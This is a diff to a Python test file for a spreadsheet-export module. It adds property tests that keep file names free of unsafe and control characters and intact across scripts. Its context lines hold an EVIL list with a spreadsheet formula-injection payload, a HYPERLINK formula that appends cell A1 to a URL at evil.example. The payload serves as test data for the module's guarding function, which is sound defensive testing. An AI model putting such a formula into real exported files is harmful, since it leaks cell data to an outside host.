@@ -2,12 +2,13 @@
 
 import csv
 import io
+import unicodedata
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from presentation.sheets import guarded, unguarded
+from presentation.sheets import file_name, guarded, unguarded
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?"&A1,"Invoice")',
@@ -59,3 +60,18 @@ def test_what_was_guarded_comes_back_as_it_was(text: str) -> None:
 )
 def test_what_starts_no_formula_is_left_alone(text: str) -> None:
     assert guarded(text) == text
+
+
+@given(st.lists(st.text(), min_size=1, max_size=4))
+def test_a_file_name_holds_nothing_that_a_file_system_or_a_header_takes_for_more(parts):
+    name = file_name("Work log", *parts, ending="csv")
+    assert name.startswith("Work log")
+    assert name.endswith(".csv")
+    assert name.isprintable()
+    assert not set(name) & set('/\\:*?"<>|;%')
+    assert not {unicodedata.category(sign) for sign in name} & {"Cc", "Cf", "Cs", "Zl", "Zp"}
+
+
+@pytest.mark.parametrize("kept", ["Zahnärzte Köln", "מרפאת שיניים", "दंत चिकित्सा", "Pat & Lee (West)"])
+def test_a_name_in_any_script_stays_whole_in_a_file_name(kept):
+    assert file_name(kept, ending="pdf") == f"{kept}.pdf"
